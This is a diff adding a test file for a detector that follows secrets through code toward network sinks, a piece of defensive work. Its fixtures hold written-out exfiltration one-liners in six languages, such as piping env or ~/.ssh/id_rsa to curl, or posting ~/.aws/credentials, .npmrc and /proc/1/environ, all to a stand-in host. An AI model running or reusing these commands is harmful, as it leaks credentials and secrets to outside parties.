@@ -1,0 +1,105 @@
+import { describe, expect, it } from 'vitest';
+import { followText, type DialectName } from '../../../src/behaviour/text-flow/index.js';
+
+const u = 'https://collect.test/a';
+
+/** `source → part`, once each. */
+function flows(dialect: DialectName, text: string): string[] {
+  return [
+    ...new Set(
+      followText(text, dialect).map(({ source, sink }) => `${source.kind} → ${sink.part}`),
+    ),
+  ].sort();
+}
+
+describe('a secret is followed through text', () => {
+  it.each<[DialectName, string, string]>([
+    [
+      'csharp',
+      'environment-all → body',
+      `var t = new StringBuilder(); foreach (DictionaryEntry e in Environment.GetEnvironmentVariables()) { t.Append(e.Key); } new HttpClient().PostAsync("${u}", new StringContent(t.ToString()));`,
+    ],
+    [
+      'csharp',
+      'credential-file → body',
+      `static string Read() { return File.ReadAllText(Path.Combine(home, ".aws", "credentials")); } static void Send(string text) { client.UploadString("${u}", text); } static void Go() { var keys = Read(); Send(keys); }`,
+    ],
+    [
+      'csharp',
+      'credential-file → body',
+      `var r = WebRequest.Create("${u}"); var s = r.GetRequestStream(); var k = File.ReadAllBytes("/home/a/.ssh/id_rsa"); s.Write(k, 0, k.Length);`,
+    ],
+    [
+      'visualbasic',
+      'credential-file → body',
+      `Dim k As String = File.ReadAllText("C:\\Users\\a\\.aws\\credentials")\nclient.UploadString("${u}", k)`,
+    ],
+    [
+      'javascript',
+      'environment-all → body',
+      `const h=require('https').request({host:['collect','test'].join('.')});const g=Buffer.from(JSON.stringify({v:process.env})).toString('base64');h.end(g)`,
+    ],
+    [
+      'javascript',
+      'credential-file → body',
+      `const read = (f) => fs.readFileSync(f); const k = read('/root/.npmrc'); fetch('${u}', { body: fs.readFileSync(os.homedir() + '/.npmrc') })`,
+    ],
+    [
+      'python',
+      'environment-all → body',
+      `import os, requests\nd = dict(os.environ)\nrequests.post("${u}", json=d)`,
+    ],
+    [
+      'powershell',
+      'environment-all → body',
+      `$all = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri ${u} -Method Post -Body $all`,
+    ],
+    [
+      'powershell',
+      'credential-file → body',
+      `$f = "$HOME\\.aws\\credentials"\n$t = Get-Content $f -Raw\n(New-Object Net.WebClient).UploadString('${u}', $t)`,
+    ],
+    ['shell', 'environment-all → body', `env | base64 | curl -d @- ${u}`],
+    ['shell', 'credential-file → body', `K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" ${u}`],
+    ['shell', 'process-memory → body', `cat /proc/1/environ | curl --data-binary @- ${u}`],
+  ])('%s: %s', (dialect, flow, text) => {
+    expect(flows(dialect, text)).toContain(flow);
+  });
+
+  it.each<[DialectName, string]>([
+    [
+      'csharp',
+      `var all = Environment.GetEnvironmentVariables(); Console.WriteLine(all.Count); new HttpClient().PostAsync("${u}", new StringContent("x"));`,
+    ],
+    [
+      'csharp',
+      `// Environment.GetEnvironmentVariables()\nnew HttpClient().PostAsync("${u}", new StringContent("Environment.GetEnvironmentVariables()"));`,
+    ],
+    [
+      'javascript',
+      `const p = process.env.PORT; const k = fs.readFileSync('/root/.npmrc'); console.log(k); fetch('${u}')`,
+    ],
+    [
+      'powershell',
+      `$k = Get-Content "$HOME\\.aws\\credentials"\nWrite-Host $k\nInvoke-RestMethod -Uri ${u}`,
+    ],
+    ['shell', `cat ~/.ssh/id_rsa > /dev/null\ncurl ${u}`],
+  ])('and not where it stays: %s', (dialect, text) => {
+    expect(flows(dialect, text)).toEqual([]);
+  });
+
+  it('tells where it goes, and what happened on the way', () => {
+    const [flow] = followText(`A=$(env | gzip | base64)\ncurl -d "$A" ${u}`, 'shell');
+    expect(flow?.near).toContain(u);
+    expect(flow?.transforms.map(({ text }) => text)).toEqual(
+      expect.arrayContaining(['base64', 'compressed']),
+    );
+  });
+
+  it('ends on texts that are made to be followed without end', () => {
+    const chain = Array.from({ length: 4000 }, (_, at) => `a${at}=a${at + 1};`).join('');
+    followText(`${chain}a4000=process.env;fetch(a0)`, 'javascript');
+    followText(`${'f('.repeat(5000)}fetch(process.env)`, 'javascript');
+    followText(`fetch(${'"a"+'.repeat(20_000)}process.env)`, 'javascript');
+  });
+});
